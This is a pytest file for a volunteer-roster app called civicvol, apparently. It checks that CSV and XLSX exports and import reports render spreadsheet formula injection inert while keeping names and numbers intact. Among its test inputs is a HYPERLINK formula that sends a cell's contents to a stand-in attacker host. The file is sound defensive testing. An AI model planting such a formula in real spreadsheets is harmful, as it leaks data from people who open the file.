"""A resident's name typed as a formula stays a name in every sheet civicvol writes.

OWASP's "CSV injection": a cell that begins with = + - @, a tab or a carriage return can run
as a formula when the office opens the file in Excel. Exports and import reports write such a
text inert (a leading apostrophe in .csv; a string with Excel's quote prefix in .xlsx), a
number stays a number, and an import report read back gives the names as they were typed.
"""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path
from typing import ClassVar

import pytest
from openpyxl import load_workbook

from civicvol import CivicVol
from civicvol.office import RosterHasBadRows, export, import_volunteers
from civicvol.office.sheets import Sheet, formula_like, read_table, write_sheets
from tests.conftest import ADMIN
from tests.office_files import read_csv, write_csv

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
FORMULAS = [LINK, "+1", "-1", "@SUM(A1)", "=1+1"]


@pytest.fixture
def app(tmp_path: Path) -> CivicVol:
    application = CivicVol(f"sqlite:///{tmp_path / 'civicvol.db'}")
    yield application  # type: ignore[misc]
    application.close()


def xlsx_cells(path: Path) -> list[list[object]]:
    """Each cell of the first sheet as (value, data type, quote prefix)."""
    sheet = load_workbook(path).worksheets[0]
    return [[(c.value, c.data_type, c.quotePrefix) for c in row] for row in sheet.iter_rows()]


def register_formula_names(app: CivicVol) -> None:
    for number, name in enumerate(FORMULAS):
        app.register_volunteer(ADMIN, name, f"1380013800{number}", "东庄社区")


class TestTheRule:
    @pytest.mark.parametrize("text", [*FORMULAS, "\tx", "\rx", "'=x", "''+1"])
    def test_what_a_spreadsheet_could_run_is_formula_like(self, text: str) -> None:
        assert formula_like(text)

    @pytest.mark.parametrize("text", ["", "张三", "13800138000", "0871-63123456", "a=b",
                                      "'quoted", " =x"])
    def test_plain_texts_are_not(self, text: str) -> None:
        assert not formula_like(text)


class TestExports:
    def test_a_csv_export_gives_each_formula_like_name_a_leading_apostrophe(
            self, app: CivicVol, tmp_path: Path) -> None:
        register_formula_names(app)
        [out] = export(app, "volunteers", tmp_path / "v.csv")
        names = {row[2]: row[1] for row in read_csv(out)[1:]}  # by phone
        assert names == {f"1380013800{n}": "'" + name for n, name in enumerate(FORMULAS)}

    def test_an_xlsx_export_writes_them_as_quoted_strings_never_formulas(
            self, app: CivicVol, tmp_path: Path) -> None:
        register_formula_names(app)
        [out] = export(app, "volunteers", tmp_path / "v.xlsx")
        names = {row[2][0]: row[1] for row in xlsx_cells(out)[1:]}
        assert names == {f"1380013800{n}": (name, "s", True)
                         for n, name in enumerate(FORMULAS)}

    def test_plain_names_and_numbers_are_left_as_they_are(self, app: CivicVol,
                                                          tmp_path: Path) -> None:
        app.register_volunteer(ADMIN, "张三", "13800138000", "东庄社区")
        [out] = export(app, "volunteers", tmp_path / "v.xlsx")
        _id, name, phone, *_rest = xlsx_cells(out)[1]
        assert name == ("张三", "s", False) and phone == ("13800138000", "s", False)
        [out] = export(app, "volunteers", tmp_path / "v.csv")
        assert read_csv(out)[1][1:3] == ["张三", "13800138000"]


class TestNumbersStayNumbers:
    ROWS: ClassVar = [["-1", Decimal("-1.5"), -2, -0.25]]

    def test_a_negative_number_is_a_number_in_xlsx_and_a_text_like_it_is_quoted(
            self, tmp_path: Path) -> None:
        [out] = write_sheets(tmp_path / "n.xlsx", [Sheet("n", ["a", "b", "c", "d"],
                                                         self.ROWS)])
        assert xlsx_cells(out)[1] == [("-1", "s", True), (-1.5, "n", False),
                                      (-2, "n", False), (-0.25, "n", False)]

    def test_a_negative_number_has_no_apostrophe_in_csv(self, tmp_path: Path) -> None:
        [out] = write_sheets(tmp_path / "n.csv", [Sheet("n", ["a", "b", "c", "d"], self.ROWS)])
        assert read_csv(out)[1] == ["'-1", "-1.5", "-2", "-0.25"]


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_reading_a_written_sheet_gives_back_every_text_as_it_was(tmp_path: Path,
                                                                 suffix: str) -> None:
    texts = [*FORMULAS, "'=x", "''@y", "'plain", "张三"]
    [out] = write_sheets(tmp_path / f"t.{suffix}", [Sheet("t", ["text"], [[t] for t in texts])])
    assert [row[0] for _n, row in read_table(out).rows] == texts


class TestImportReports:
    """Two residents typed as formulas; one has a bad phone, so nothing is imported."""

    ROWS: ClassVar = [[LINK, "12345", "东庄社区"], ["@SUM(A1)", "13900000001", "东庄社区"]]

    def refused(self, app: CivicVol, roster: Path) -> Path:
        with pytest.raises(RosterHasBadRows):
            import_volunteers(app, ADMIN, roster)
        return roster.with_name(f"roster.report{roster.suffix}")

    def test_the_csv_report_is_inert_and_the_fixed_report_imports_the_names_as_typed(
            self, app: CivicVol, tmp_path: Path) -> None:
        report = self.refused(app, write_csv(tmp_path / "roster.csv", ["姓名", "手机号", "社区"],
                                             self.ROWS))
        header, *rows = read_csv(report)
        assert [r[0] for r in rows] == ["'" + LINK, "'@SUM(A1)"]
        rows[0][1] = "13900000002"  # the office fixes the phone in the report
        write_csv(report, header, rows)
        assert import_volunteers(app, ADMIN, report).imported == 2
        names = {v["name"] for v in app.views.volunteers.search(limit=None)}
        assert names == {LINK, "@SUM(A1)"}  # not "'=HYPERLINK..."

    def test_the_xlsx_report_is_inert_and_the_fixed_report_imports_the_names_as_typed(
            self, app: CivicVol, tmp_path: Path) -> None:
        roster = tmp_path / "roster.xlsx"
        write_sheets(roster, [Sheet("名单", ["姓名", "手机号", "社区"], self.ROWS)])
        report = self.refused(app, roster)
        cells = xlsx_cells(report)
        assert [r[0] for r in cells[1:]] == [(LINK, "s", True), ("@SUM(A1)", "s", True)]
        book = load_workbook(report)  # the office fixes the phone in Excel
        book.worksheets[0]["B2"] = "13900000002"
        book.save(report)
        assert import_volunteers(app, ADMIN, report).imported == 2
        names = {v["name"] for v in app.views.volunteers.search(limit=None)}
        assert names == {LINK, "@SUM(A1)"}

    def test_a_reason_that_echoes_a_formula_like_cell_is_inert_too(
            self, app: CivicVol, tmp_path: Path) -> None:
        roster = write_csv(tmp_path / "roster.csv", ["姓名", "手机号", "社区"],
                           [["张三", "=1+1", "东庄社区"]])
        report = self.refused(app, roster)
        [row] = read_csv(report)[1:]
        assert row[1] == "'=1+1"
        assert not any(cell.startswith(tuple("=+-@\t\r")) for cell in row)
